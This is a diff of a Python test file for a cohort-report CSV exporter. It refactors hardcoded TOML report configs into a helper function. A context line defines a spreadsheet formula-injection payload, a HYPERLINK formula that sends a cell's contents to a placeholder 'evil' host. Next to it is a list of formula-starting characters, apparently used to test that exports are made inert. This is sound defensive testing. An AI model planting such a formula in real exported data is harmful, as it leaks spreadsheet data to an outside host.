@@ -4,6 +4,7 @@ and leave the previous files as they were (issue 16, points 1 and 7)."""
 from __future__ import annotations
 
 import csv
+import json
 import os
 import subprocess
 import sys
@@ -18,27 +19,22 @@ from cohort_service.export.csv import inert
 from tests.cohorts.rows import Account
 from tests.conftest import CliResult
 
-CONFIG = """
-[report]
-timezone = "Europe/Moscow"
-weeks = 2
 
-[[report.milestones]]
-name = "целевой"
-statuses = ["Целевой"]
+def _toml(milestones: dict[str, object], dimensions: dict[str, str]) -> str:
+    """A report config in Moscow time over two weeks: milestone name → status, dimension → field."""
+    lines = ['[report]\ntimezone = "Europe/Moscow"\nweeks = 2']
+    lines += [
+        f"[[report.milestones]]\nname = {json.dumps(n)}\nstatuses = [{json.dumps(st)}]"
+        for n, st in milestones.items()
+    ]
+    lines += [
+        f"[[report.dimensions]]\nname = {json.dumps(n)}\nfield = {json.dumps(f)}"
+        for n, f in dimensions.items()
+    ]
+    return "\n\n".join(lines) + "\n"
 
-[[report.milestones]]
-name = "оплачен"
-statuses = [142]
 
-[[report.dimensions]]
-name = "источник"
-field = "utm_source"
-
-[[report.dimensions]]
-name = "теги"
-field = "tags"
-"""
+CONFIG = _toml({"целевой": "Целевой", "оплачен": 142}, {"источник": "utm_source", "теги": "tags"})
 HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"x")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
@@ -227,23 +223,7 @@ def test_a_crashed_run_s_temp_files_are_removed_by_the_next(
     assert oct(base.stat().st_mode & 0o777) == "0o700"
 
 
-WON_CONFIG = """
-[report]
-timezone = "Europe/Moscow"
-weeks = 2
-
-[[report.milestones]]
-name = "Status"
-statuses = ["Целевой"]
-
-[[report.milestones]]
-name = "Won"
-statuses = [142]
-
-[[report.dimensions]]
-name = "Manager"
-field = "utm_source"
-"""
+WON_CONFIG = _toml({"Status": "Целевой", "Won": 142}, {"Manager": "utm_source"})
 
 
 def test_a_milestone_or_dimension_may_share_a_fixed_column_s_name(
